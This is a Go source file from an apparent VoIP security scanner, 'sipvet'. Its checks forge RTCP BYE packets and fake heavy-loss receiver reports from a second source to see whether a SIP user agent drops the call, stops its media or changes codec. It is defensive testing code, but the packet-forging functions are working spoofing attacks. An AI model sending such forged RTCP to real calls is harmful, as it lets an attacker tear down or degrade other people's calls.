package check

import (
	"context"
	"strings"
	"sync"
	"time"

	"github.com/pion/rtcp"
)

// uaRTCPObs is what the RTCP spoofing checks saw.
type uaRTCPObs struct {
	// MediaBefore and MediaAfter count the UA's RTP packets in one second
	// before the forged RTCP and in the last second of the observation.
	MediaBefore int `json:"media_before"`
	MediaAfter  int `json:"media_after"`
	// Forged counts forged RTCP packets sent from B.
	Forged int `json:"forged"`
	// SIP lists requests the UA sent during the observation (re-INVITE,
	// UPDATE, BYE).
	SIP []string `json:"sip,omitempty"`
	// PTBefore and PTAfter are the payload types of the UA's RTP.
	PTBefore []uint8 `json:"pt_before,omitempty"`
	PTAfter  []uint8 `json:"pt_after,omitempty"`
}

// uaForgeRTCP runs one RTCP spoofing experiment: call, learn the UA's SSRC,
// send the packets build returns from source B to the UA's RTCP port (and
// its RTP port, for rtcp-mux UAs), observe for 3 s.
func uaForgeRTCP(ctx context.Context, env *Env, build func(ours, theirs uint32) []rtcp.Packet) (uaRTCPObs, map[string]any, *Outcome, error) {
	var obs uaRTCPObs
	s, o, err := uaEstablish(ctx, env)
	if s == nil {
		return obs, nil, o0(o), err
	}
	defer s.close(ctx)
	rtpDst, rtcpDst, err := s.mediaDst(ctx)
	if err != nil {
		o := Inconclusive("%v", err)
		return obs, map[string]any{"cleanup": s.hangup(ctx)}, &o, nil
	}
	bm, err := uaOpenEndpointAt(ctx, env, env.SourceB)
	if err != nil {
		return obs, map[string]any{"cleanup": s.hangup(ctx)}, nil, err
	}
	defer bm.close()
	uaSleep(ctx, 1500*time.Millisecond)
	before := s.media.rtpSince(env.Now().Add(-time.Second))
	obs.MediaBefore, obs.PTBefore = len(before), uaPTs(before)
	if len(before) == 0 {
		o := Inconclusive("the UA sends no RTP to sipvet, so a reaction to forged RTCP cannot be seen")
		return obs, map[string]any{"cleanup": s.hangup(ctx)}, &o, nil
	}
	theirs, ok := uaTheirSSRC(before, s.ssrc)
	if !ok {
		o := Inconclusive("the UA sends back only sipvet's own RTP (SSRC %d), so there is no stream of its own to forge RTCP about", s.ssrc)
		return obs, map[string]any{"cleanup": s.hangup(ctx)}, &o, nil
	}
	var (
		wg      sync.WaitGroup
		methods []string
	)
	wg.Add(1)
	go func() {
		defer wg.Done()
		methods = s.watchSIP(ctx, 3*time.Second)
	}()
	for i := 0; i < 5 && ctx.Err() == nil; i++ {
		if uaSendRTCP(ctx, bm.rtp, rtcpDst, build(s.ssrc, theirs)...) == nil {
			obs.Forged++
		}
		if uaSendRTCP(ctx, bm.rtp, rtpDst, build(s.ssrc, theirs)...) == nil {
			obs.Forged++
		}
		uaSleep(ctx, 200*time.Millisecond)
	}
	wg.Wait()
	after := s.media.rtpSince(env.Now().Add(-time.Second))
	obs.MediaAfter, obs.PTAfter = len(after), uaPTs(after)
	obs.SIP = methods
	data := map[string]any{"observed": obs, "source_b": bm.rtp.LocalAddr(), "ua_ssrc": theirs, "our_ssrc": s.ssrc}
	data["cleanup"] = s.hangup(ctx)
	return obs, data, nil, nil
}

// uaTheirSSRC returns the SSRC the UA sends most, leaving out sipvet's
// own (a UA or echo service may send sipvet's packets back unchanged); ok
// is false when there is no other.
func uaTheirSSRC(pkts []uaRTPSeen, ours uint32) (ssrc uint32, ok bool) {
	count := map[uint32]int{}
	var best uint32
	bestN := 0
	for _, p := range pkts {
		if p.ssrc == ours {
			continue
		}
		count[p.ssrc]++
		if count[p.ssrc] > bestN {
			best, bestN = p.ssrc, count[p.ssrc]
		}
	}
	return best, bestN > 0
}

func uaPTs(pkts []uaRTPSeen) []uint8 {
	seen := map[uint8]bool{}
	var out []uint8
	for _, p := range pkts {
		if !seen[p.pt] {
			seen[p.pt] = true
			out = append(out, p.pt)
		}
	}
	return out
}

func runRTCPByeSpoof(ctx context.Context, env *Env) (Outcome, error) {
	obs, data, early, err := uaForgeRTCP(ctx, env, func(ours, theirs uint32) []rtcp.Packet {
		// RFC 3550 §6.6: BYE for sipvet's own SSRC, as if the caller left.
		return []rtcp.Packet{&rtcp.ReceiverReport{SSRC: ours}, &rtcp.Goodbye{Sources: []uint32{ours}, Reason: "sipvet"}}
	})
	if early != nil || err != nil {
		if early != nil && data != nil {
			early.Data = data
		}
		return *o0(early), err
	}
	out := judgeRTCPBye(obs)
	out.Data = data
	return out, nil
}

// judgeRTCPBye decides ipa10.rtcp-bye-spoof.
func judgeRTCPBye(o uaRTCPObs) Outcome {
	for _, m := range o.SIP {
		if m == "BYE" {
			return Vulnerable("after a forged RTCP BYE from source B the UA hung up the call (SIP BYE)")
		}
	}
	switch {
	case o.Forged == 0:
		return Inconclusive("no forged RTCP could be sent from source B")
	case o.MediaBefore > 0 && o.MediaAfter == 0:
		return Vulnerable("after a forged RTCP BYE from source B the UA stopped sending media (%d RTP packets/s before, none after)", o.MediaBefore)
	}
	return Passed("the UA kept the call and its media (%d RTP packets in the last second) after a forged RTCP BYE from source B", o.MediaAfter)
}

func runRTCPRRLoss(ctx context.Context, env *Env) (Outcome, error) {
	obs, data, early, err := uaForgeRTCP(ctx, env, func(ours, theirs uint32) []rtcp.Packet {
		// A receiver report from "sipvet" claiming it lost nearly every
		// packet of the UA's stream (RFC 3550 §6.4.2).
		return []rtcp.Packet{&rtcp.ReceiverReport{SSRC: ours, Reports: []rtcp.ReceptionReport{{
			SSRC: theirs, FractionLost: 250, TotalLost: 0x7fff, LastSequenceNumber: 1 << 16, Jitter: 8000,
		}}}}
	})
	if early != nil || err != nil {
		if early != nil && data != nil {
			early.Data = data
		}
		return *o0(early), err
	}
	out := judgeRTCPRRLoss(obs)
	out.Data = data
	return out, nil
}

// judgeRTCPRRLoss decides ipa10.rtcp-rr-loss: any change of the call after
// forged loss reports counts as a reaction.
func judgeRTCPRRLoss(o uaRTCPObs) Outcome {
	var reactions []string
	for _, m := range o.SIP {
		switch m {
		case "INVITE":
			reactions = append(reactions, "re-INVITE")
		case "UPDATE", "BYE":
			reactions = append(reactions, m)
		}
	}
	if o.MediaBefore > 0 && o.MediaAfter == 0 {
		reactions = append(reactions, "media stopped")
	}
	if len(o.PTAfter) > 0 && !uaSamePTs(o.PTBefore, o.PTAfter) {
		reactions = append(reactions, "codec changed")
	}
	switch {
	case len(reactions) > 0:
		return Vulnerable("forged RTCP receiver reports of heavy loss from source B changed the call: %s", strings.Join(reactions, ", "))
	case o.Forged == 0:
		return Inconclusive("no forged RTCP could be sent from source B")
	}
	return Passed("the UA did not react to forged RTCP receiver reports of heavy loss from source B (no re-INVITE, codec change or teardown in 3 s)")
}

func uaSamePTs(a, b []uint8) bool {
	set := map[uint8]bool{}
	for _, x := range a {
		set[x] = true
	}
	for _, x := range b {
		if !set[x] {
			return false
		}
	}
	return true
}
